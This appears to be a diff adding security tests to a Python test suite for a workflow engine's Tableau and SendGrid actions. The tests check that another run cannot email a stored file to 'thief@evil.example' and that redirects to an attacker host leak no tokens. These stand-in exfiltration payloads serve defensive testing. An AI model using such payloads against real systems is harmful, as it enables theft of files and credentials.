@@ -202,6 +202,15 @@ def test_export_view_pdf_with_filters_lands_in_the_blob_store_and_sendgrid_attac
         assert base64.b64decode(attachment["content"]) == PDF
         assert attachment["filename"] == "sales.pdf" and attachment["type"] == "application/pdf"
 
+        # another run, whose payload names that run's file reference (seen in flowrun show, a
+        # log, a reply), attaches nothing: the file was not kept by it or a run of its family
+        stolen = run(tmp_path, connections, {
+            "mail": {"type": "sendgrid.SendEmail", "connection": "sendgrid",
+                     "inputs": {"to": "thief@evil.example", "from": "bi@acme.example", "subject": "x", "text": "x",
+                                "attachments": [{"file": "{{ triggerBody().ref }}"}]}}}, input={"ref": ref})
+        assert stolen.status == "Failed" and stolen.steps["mail"].error["code"] == "FileNotFound"
+        assert len(sendgrid.requests) == 1
+
 
 def test_export_csv_and_png_by_view_id(tmp_path, connections, tableau):
     result = run(tmp_path, connections, {
@@ -381,3 +390,24 @@ def test_another_run_that_echoes_a_stand_in_sends_the_stand_in_not_the_token(tmp
         eng.close()
     assert replies[0]["body"]["token"].count(".") == 2  # the minting run's own reply: the JWT
     assert replies[1]["body"] == {"stolen": stand_in}
+
+
+@pytest.mark.parametrize("where", ["/auth/signin", "/jobs"])
+def test_a_redirect_to_another_host_is_refused_and_carries_neither_the_pat_nor_the_session_token(
+        tmp_path, tableau, monkeypatch, where):
+    """TSC follows redirects itself and forwards X-Tableau-Auth and the sign-in body to any host;
+    the connection's session sends nothing to a host other than the server's: the action fails
+    with TableauRedirect (not retried) and the other host receives no request."""
+    monkeypatch.setenv("TABLEAU_PAT", PAT)
+    monkeypatch.setenv("TABLEAU_APP_SECRET", APP_SECRET)
+    with Recorder() as evil:
+        evil.route("POST", r"/.*", status=200, body=b"<tsResponse/>")
+        tableau.recorder.route("POST" if where == "/auth/signin" else "GET", rf"/api/{VERSION}.*{where}.*",
+                               status=307, headers={"Location": f"{evil.url}/steal"})
+        tableau.recorder._routes.insert(0, tableau.recorder._routes.pop())  # before the fake's own route
+        conns = write_connections(tmp_path, tableau, token_name="flowrun")
+        result = run(tmp_path, conns, {"r": act("RefreshExtract", {"workbookId": "wb-2"},
+                                                retryPolicy={"type": "fixed", "count": 2, "interval": "PT1S"})})
+        assert result.status == "Failed" and result.steps["r"].error["code"] == "TableauRedirect"
+        assert "Tableau: refused to send a request" in result.steps["r"].error["message"]
+        assert evil.requests == []
